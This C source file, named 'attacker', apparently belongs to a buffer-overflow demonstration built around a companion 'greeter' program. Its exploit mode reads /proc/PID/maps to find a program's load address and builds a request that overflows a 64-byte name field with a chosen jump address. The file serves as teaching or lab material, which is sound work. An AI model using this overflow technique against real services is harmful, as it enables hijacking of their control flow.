/*
 * attacker greet NAME
 * attacker exploit PID PROGRAM OFFSET
 *
 * Writes one request for greeter to standard output. The first form is what an
 * honest visitor sends. The second overflows the name with the address that
 * OFFSET (hexadecimal, as nm prints it) has in process PID, which runs PROGRAM:
 * an attacker who knows the memory layout of the process exactly.
 */
#include <inttypes.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

enum { name_size = 64 };

/* Returns the address at which PROGRAM's first byte is mapped in PID, 0 if it is not. */
static uint64_t image_base(const char *pid, const char *program)
{
	char path[64], line[4096];
	struct stat want;
	uint64_t base = 0;

	if (stat(program, &want) != 0)
		return 0;
	snprintf(path, sizeof path, "/proc/%s/maps", pid);
	FILE *maps = fopen(path, "r");
	if (maps == NULL)
		return 0;
	while (fgets(line, sizeof line, maps) != NULL) {
		uint64_t start, offset, inode;
		if (sscanf(line, "%" SCNx64 "-%*x %*s %" SCNx64 " %*s %" SCNu64, &start, &offset, &inode) != 3)
			continue;
		if (inode == want.st_ino && offset == 0) {
			base = start;
			break;
		}
	}
	fclose(maps);
	return base;
}

static int send(const void *request, uint32_t length)
{
	fwrite(&length, sizeof length, 1, stdout);
	fwrite(request, 1, length, stdout);
	return fflush(stdout) == 0 ? 0 : 1;
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "greet") == 0)
		return send(argv[2], (uint32_t)strlen(argv[2]));
	if (argc == 5 && strcmp(argv[1], "exploit") == 0) {
		unsigned char request[name_size + sizeof(uint64_t)];
		uint64_t base = image_base(argv[2], argv[3]);
		if (base == 0) {
			fprintf(stderr, "attacker: %s is not mapped in process %s\n", argv[3], argv[2]);
			return 1;
		}
		uint64_t target = base + strtoull(argv[4], NULL, 16);
		memset(request, 'A', name_size);
		memcpy(request + name_size, &target, sizeof target);
		fprintf(stderr, "attacker: jumps to 0x%" PRIx64 " in process %s\n", target, argv[2]);
		return send(request, sizeof request);
	}
	fprintf(stderr, "usage: attacker greet NAME | attacker exploit PID PROGRAM OFFSET\n");
	return 2;
}
